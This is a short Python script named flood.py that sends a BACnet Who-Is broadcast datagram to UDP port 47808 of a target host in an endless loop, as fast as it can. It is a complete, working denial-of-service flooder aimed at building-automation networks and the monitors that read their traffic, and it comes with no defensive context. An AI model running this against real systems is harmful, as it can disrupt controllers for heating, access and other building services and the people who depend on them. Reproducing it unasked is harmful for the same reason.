"""Sends the same datagram of the BACnet port again and again as fast as it can. usage: flood.py HOST"""

import socket
import sys

sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
# Who-Is to everybody (ASHRAE 135, 16.10): a message that the monitor reads.
message = bytes([0x81, 0x0A, 0, 8, 1, 0, 0x10, 8])
while True:
    sender.sendto(message, (sys.argv[1], 47808))
